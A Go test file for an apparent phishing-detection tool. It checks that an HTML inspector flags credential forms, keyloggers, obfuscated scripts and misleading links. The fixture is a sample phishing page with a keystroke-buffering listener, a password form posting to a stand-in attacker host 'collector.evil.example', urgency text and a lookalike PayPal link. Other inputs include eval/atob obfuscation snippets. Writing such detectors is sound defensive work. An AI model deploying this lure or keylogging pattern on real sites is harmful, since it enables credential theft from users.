package sandbox

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dscybers/phishshield/internal/entity"
)

const phishingPage = `<!DOCTYPE html>
<html>
<head>
  <title>Account verification</title>
  <script src="/static/app.js"></script>
  <script>
    document.addEventListener('keydown', function (e) { buffer.push(e.key); });
    var el = document.createElement('div');
    document.body.appendChild(el);
  </script>
</head>
<body>
  <img src="/img/ssl-secure-badge.png">
  <p>URGENT: your account will be suspended. Verify now!</p>
  <form action="https://collector.evil.example/submit" method="post">
    <input type="email" name="email" placeholder="Email" required>
    <input type="password" name="pass">
    <input type="submit">
  </form>
  <a href="https://paypa1-login.example/">Log in to PayPal</a>
  <a href="https://www.google.com/">Google</a>
</body>
</html>`

func TestInspectHTML_PhishingPage(t *testing.T) {
	ins, err := InspectHTML("https://secure-login.example.com/verify", phishingPage)
	require.NoError(t, err)

	require.Len(t, ins.Forms, 1)
	form := ins.Forms[0]
	assert.Equal(t, "https://collector.evil.example/submit", form.Action)
	assert.Equal(t, "POST", form.Method)
	require.Len(t, form.Fields, 3)
	assert.Equal(t, entity.FormField{Type: "email", Name: "email", Placeholder: "Email", Required: true}, form.Fields[0])

	assert.True(t, ins.JSBehavior.Keylogger)
	assert.False(t, ins.JSBehavior.Obfuscated)
	assert.Equal(t, []string{"https://secure-login.example.com/static/app.js"}, ins.JSBehavior.ExternalScripts)
	assert.ElementsMatch(t, []string{"createElement(", "appendChild("}, ins.JSBehavior.SuspiciousFunctions)

	assert.Contains(t, ins.RiskIndicators, IndicatorSensitiveForm)
	assert.Contains(t, ins.RiskIndicators, IndicatorExternalForm)
	assert.Contains(t, ins.RiskIndicators, IndicatorKeylogger)
	assert.Contains(t, ins.RiskIndicators, IndicatorSecurityBadge)
	assert.Contains(t, ins.RiskIndicators, "Urgency language detected: urgent")
	assert.Contains(t, ins.RiskIndicators, "Urgency language detected: verify now")
	assert.Contains(t, ins.RiskIndicators, "Misleading PayPal link detected")
	assert.NotContains(t, ins.RiskIndicators, "Misleading Google link detected")
}

func TestInspectHTML_BenignPage(t *testing.T) {
	page := `<html><head><title>Docs</title></head><body>
<form action="/search"><input name="q"></form>
<p>Welcome to the documentation.</p>
</body></html>`

	ins, err := InspectHTML("https://docs.example.org/", page)
	require.NoError(t, err)

	require.Len(t, ins.Forms, 1)
	assert.Equal(t, "https://docs.example.org/search", ins.Forms[0].Action)
	assert.Equal(t, "GET", ins.Forms[0].Method)
	assert.Equal(t, "text", ins.Forms[0].Fields[0].Type)
	assert.Empty(t, ins.RiskIndicators)
	assert.False(t, ins.JSBehavior.Keylogger)
	assert.NotNil(t, ins.JSBehavior.ExternalScripts)
}

func TestInspectHTML_EmptyActionPostsToSelf(t *testing.T) {
	ins, err := InspectHTML("https://a.example/login", `<form><input name="user"></form>`)
	require.NoError(t, err)
	assert.Equal(t, "https://a.example/login", ins.Forms[0].Action)
	assert.NotContains(t, ins.RiskIndicators, IndicatorExternalForm)
}

func TestInspectHTML_InlineKeyHandler(t *testing.T) {
	ins, err := InspectHTML("https://a.example/", `<input name="q" onkeypress="send(this.value)">`)
	require.NoError(t, err)
	assert.True(t, ins.JSBehavior.Keylogger)
}

func TestAnalyzeScript(t *testing.T) {
	tests := []struct {
		name       string
		content    string
		obfuscated bool
		keylogger  bool
		funcs      []string
	}{
		{"eval", `eval(atob("ZG9jdW1lbnQ="))`, true, false, nil},
		{"fromCharCode", `var s = String.fromCharCode(104, 105);`, true, false, nil},
		{"packed", strings.Repeat("a", 1200), true, false, nil},
		{"long but formatted", strings.Repeat("var x = 1;\n", 120), false, false, nil},
		{"keypress", `window.onkeypress = log;`, false, true, nil},
		{"redirect", `window.location.href = "https://x.example"; window.open("/a")`, false, false, []string{"location.href", "window.open("}},
		{"innerHTML", `el.innerHTML = data; document.write("x")`, false, false, []string{"document.write(", "innerHTML"}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			obfuscated, keylogger, funcs := AnalyzeScript(tt.content)
			assert.Equal(t, tt.obfuscated, obfuscated)
			assert.Equal(t, tt.keylogger, keylogger)
			assert.Equal(t, tt.funcs, funcs)
		})
	}
}
